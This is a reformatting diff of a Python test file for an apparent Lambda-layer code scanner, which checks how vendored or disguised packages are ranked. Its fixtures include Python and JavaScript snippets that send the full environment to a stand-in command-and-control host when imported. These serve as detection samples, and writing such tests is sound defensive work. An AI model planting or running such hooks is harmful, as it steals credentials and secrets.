@@ -13,10 +13,12 @@ from lambdawatch.codescan.scanner import scan_bytes
 from lambdawatch.codescan.vendored import VendorIndex
 
 SITE = "python/lib/python3.11/site-packages/"
-EVIL = (b"import os, urllib.request\n"
-        b"def hook():\n"
-        b"    urllib.request.urlopen('https://c2.example.net/x', data=repr(dict(os.environ)).encode())\n"
-        b"hook()\n")
+EVIL = (
+    b"import os, urllib.request\n"
+    b"def hook():\n"
+    b"    urllib.request.urlopen('https://c2.example.net/x', data=repr(dict(os.environ)).encode())\n"
+    b"hook()\n"
+)
 BENIGN = b"def add(a, b):\n    return a + b\n"
 
 
@@ -38,13 +40,15 @@ def layer(members: dict[str, bytes]) -> bytes:
     return buf.getvalue()
 
 
-def dist(name: str, files: dict[str, bytes], claim: dict[str, bytes] | None = None,
-         base: str = SITE) -> dict[str, bytes]:
+def dist(
+    name: str, files: dict[str, bytes], claim: dict[str, bytes] | None = None, base: str = SITE
+) -> dict[str, bytes]:
     meta = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n".encode()
     out = {f"{base}{p}": b for p, b in files.items()}
     out[f"{base}{name}-1.0.dist-info/METADATA"] = meta
-    out[f"{base}{name}-1.0.dist-info/RECORD"] = record(f"{name}-1.0", {
-        **files, f"{name}-1.0.dist-info/METADATA": meta}, claim)
+    out[f"{base}{name}-1.0.dist-info/RECORD"] = record(
+        f"{name}-1.0", {**files, f"{name}-1.0.dist-info/METADATA": meta}, claim
+    )
     return out
 
 
@@ -60,8 +64,11 @@ def test_verified_distribution_is_ranked_down() -> None:
 
 
 def test_hash_mismatch_is_first_party() -> None:
-    members = dist("telemetry_kit", {"telemetry_kit/__init__.py": EVIL},
-                   claim={"telemetry_kit/__init__.py": BENIGN})
+    members = dist(
+        "telemetry_kit",
+        {"telemetry_kit/__init__.py": EVIL},
+        claim={"telemetry_kit/__init__.py": BENIGN},
+    )
     assert worst(members, f"{SITE}telemetry_kit/__init__.py") == Severity.CRITICAL
 
 
@@ -77,8 +84,9 @@ def test_module_without_record_entry_is_first_party() -> None:
 def test_stdlib_named_package_is_first_party_even_with_record() -> None:
     members = dist("json", {"json/__init__.py": EVIL})
     result = scan_bytes("layer.zip", "layer.zip", layer(members))
-    got = {(f.code, f.line, f.severity) for f in result.findings
-           if f.file == f"{SITE}json/__init__.py"}
+    got = {
+        (f.code, f.line, f.severity) for f in result.findings if f.file == f"{SITE}json/__init__.py"
+    }
     assert ("PK010", 3, Severity.HIGH) in got and ("CS202", 3, Severity.CRITICAL) in got
     benign = dist("json", {"json/__init__.py": BENIGN})
     assert worst(benign, f"{SITE}json/__init__.py") is None
@@ -99,14 +107,20 @@ def test_pth_file_is_never_vendored() -> None:
 
 def test_node_package_needs_a_matching_package_json() -> None:
     js = b"require('https').request('https://c2.example.net/', {}).end(JSON.stringify(process.env));\n"
-    good = {"nodejs/node_modules/leftpad/package.json": b'{"name": "leftpad"}',
-            "nodejs/node_modules/leftpad/index.js": js}
+    good = {
+        "nodejs/node_modules/leftpad/package.json": b'{"name": "leftpad"}',
+        "nodejs/node_modules/leftpad/index.js": js,
+    }
     assert worst(good, "nodejs/node_modules/leftpad/index.js") is None
-    wrong = {"nodejs/node_modules/leftpad/package.json": b'{"name": "other"}',
-             "nodejs/node_modules/leftpad/index.js": js}
+    wrong = {
+        "nodejs/node_modules/leftpad/package.json": b'{"name": "other"}',
+        "nodejs/node_modules/leftpad/index.js": js,
+    }
     assert worst(wrong, "nodejs/node_modules/leftpad/index.js") == Severity.HIGH
-    builtin = {"nodejs/node_modules/https/package.json": b'{"name": "https"}',
-               "nodejs/node_modules/https/index.js": js}
+    builtin = {
+        "nodejs/node_modules/https/package.json": b'{"name": "https"}',
+        "nodejs/node_modules/https/index.js": js,
+    }
     assert worst(builtin, "nodejs/node_modules/https/index.js") == Severity.HIGH
     bare = {"node_modules/leftpad/index.js": js}
     assert worst(bare, "node_modules/leftpad/index.js") == Severity.HIGH
